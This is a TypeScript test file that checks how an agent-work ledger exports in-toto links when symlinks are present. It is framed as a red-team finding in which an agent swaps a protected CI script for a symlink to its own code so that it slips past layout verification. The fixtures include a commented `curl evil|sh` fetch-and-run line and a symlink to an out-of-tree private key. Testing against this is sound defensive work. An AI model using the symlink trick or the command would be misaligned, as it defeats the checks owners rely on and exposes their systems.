/**
 * Red team, round ten: a link's materials and products are what `in-toto-run` records from a
 * checkout, symlinks included. The export walk used to skip every symlink, so an agent that
 * swapped a file it may not touch for a symlink to its own code produced a link that a layout
 * with `MATCH * WITH MATERIALS` and `DISALLOW *` accepted (the file looked deleted); and an
 * honest repository with any symlink was refused by the project's own inspection layout. Both
 * run the real `in-toto-verify`. What a checkout has but the tree cannot hash (a symlink out of
 * the tree, a submodule) is named in the link's signed environment.
 */
import { readdirSync, readFileSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { cliBinInProcess, makeUser, type User } from '../adversarial/helpers.js';
import { cleanup, git, gitdir, tempDir, writeFiles } from '../helpers/git.js';
import { keygen, peer, run, sha256 } from './helpers.js';

afterAll(cleanup);

/**
 * The CLI with `--json`, run in this process as bin/run.js routes it: what record and export
 * write is tested here, not the process around them (test/helpers/cli-in-process.ts).
 */
const cli = cliBinInProcess;

const linkIn = (out: string) => {
  const [file] = readdirSync(out).filter((f) => f.endsWith('.link'));
  return { file: join(out, file!), link: JSON.parse(readFileSync(join(out, file!), 'utf8')) };
};

/** Records the last commit's change (base HEAD~1) and exports it as step `implement`. */
async function exportStep(user: User, dir: string, agentKey: string, out: string) {
  const made = await cli(user, dir, [
    'record',
    '--status',
    'success',
    '--base',
    'HEAD~1',
    '--witness',
    'true',
  ]);
  expect(made.code, made.stdout + made.stderr).toBe(0);
  const exported = await cli(user, dir, [
    ...['export', made.json.id, '--in-toto-link', '--key', agentKey],
    ...['--rerun', '--step', 'implement', '--out', out],
  ]);
  expect(exported.code, exported.stdout + exported.stderr).toBe(0);
  return exported.json;
}

function layoutAndVerify(
  keysDir: string,
  owner: string,
  agentPub: string,
  spec: object,
  where: string,
  links: string,
) {
  const specFile = join(keysDir, 'spec.json');
  writeFileSync(specFile, JSON.stringify(spec));
  peer(['layout-rules', owner, agentPub, join(where, 'root.layout'), specFile], keysDir);
  writeFileSync(join(where, 'owner.pub'), readFileSync(`${owner}.pub`));
  return run(
    'in-toto-verify',
    ['-l', 'root.layout', '-k', 'owner.pub', '-t', 'ed25519', '--link-dir', links],
    where,
  );
}

describe('export lists symlinks as a checkout has them', () => {
  it('a tracked file swapped for a symlink to agent code is a product with the target’s digest, and the step rules refuse it', async () => {
    const user = makeUser();
    const dir = gitdir({
      files: { 'src/a.js': 'console.log(1)\n', 'ci/deploy.sh': '#!/bin/sh\necho deploying\n' },
    });
    const agentCode = 'console.log(2)\n// require("child_process").execSync("curl evil|sh")\n';
    writeFiles(dir, { 'src/a.js': agentCode });
    unlinkSync(join(dir, 'ci/deploy.sh'));
    symlinkSync('../src/a.js', join(dir, 'ci/deploy.sh'));
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'work');
    const keys = tempDir();
    const agent = keygen(keys, 'agent');
    keygen(keys, 'owner');
    const links = tempDir();
    await exportStep(user, dir, agent.key, links);
    const { link } = linkIn(links);
    expect(link.signed.products['ci/deploy.sh']).toEqual({ sha256: sha256(agentCode) });
    const verify = layoutAndVerify(
      keys,
      join(keys, 'owner'),
      agent.pub,
      {
        step: 'implement',
        command: ['/bin/sh', '-c', 'true'],
        materials: [['ALLOW', '*']],
        products: [
          ['MODIFY', 'src/*'],
          ['MATCH', '*', 'WITH', 'MATERIALS', 'FROM', 'implement'],
          ['DISALLOW', '*'],
        ],
        inspect: [],
      },
      tempDir(),
      links,
    );
    expect(verify.code, verify.stdout + verify.stderr).toBe(1);
    expect(verify.stderr).toMatch(/ci\/deploy\.sh/);
  });

  it('an honest repository with a symlink passes the inspection layout on a checkout', async () => {
    const user = makeUser();
    const dir = gitdir({ files: { 'a.js': 'console.log(1)\n', 'build.sh': 'echo v1\n' } });
    symlinkSync('a.js', join(dir, 'link.js'));
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'link');
    writeFiles(dir, { 'build.sh': 'echo v2\n' });
    git(dir, 'commit', '-qam', 'work');
    const keys = tempDir();
    const agent = keygen(keys, 'agent');
    keygen(keys, 'owner');
    const links = tempDir();
    await exportStep(user, dir, agent.key, links);
    // The auditor verifies in a checkout of the handed-over commit: the inspection records it.
    const checkout = join(tempDir(), 'co');
    git(dir, 'clone', '-q', dir, checkout);
    const verify = layoutAndVerify(
      keys,
      join(keys, 'owner'),
      agent.pub,
      {
        step: 'implement',
        command: ['/bin/sh', '-c', 'true'],
        materials: [['ALLOW', '*']],
        products: [['ALLOW', '*']],
        inspect: ['build.sh', 'a.js', 'link.js'],
      },
      checkout,
      links,
    );
    expect(verify.code, verify.stdout + verify.stderr).toBe(0);
  });

  it('a symlink out of the tree, and one to a directory are named in the signed environment', async () => {
    const user = makeUser();
    const dir = gitdir({ files: { 'src/a.js': 'x\n' } });
    symlinkSync('../../outside/id_ed25519', join(dir, 'key'));
    symlinkSync('src', join(dir, 'alias'));
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'work');
    const keys = tempDir();
    const agent = keygen(keys, 'agent');
    const links = tempDir();
    const result = await exportStep(user, dir, agent.key, links);
    const { file, link } = linkIn(links);
    const expected = [
      {
        in: 'products',
        path: 'alias',
        kind: 'symlink',
        reason: expect.stringMatching(/directory src/),
      },
      {
        in: 'products',
        path: 'key',
        kind: 'symlink',
        reason: expect.stringMatching(/out of the tree/),
      },
    ];
    expect(link.signed.environment['ledger-not-listed']).toEqual(expected);
    expect(result.notListed).toEqual(expected);
    expect(result.skippedProducts).toEqual(['alias', 'key']);
    // A submodule is named the same way (export-trees.test.ts). in-toto's own loader takes the link and its signature over the environment.
    const loaded = JSON.parse(peer(['load-link', file, agent.pub], keys));
    expect(loaded.signed.environment['ledger-not-listed']).toHaveLength(2);
  });
});
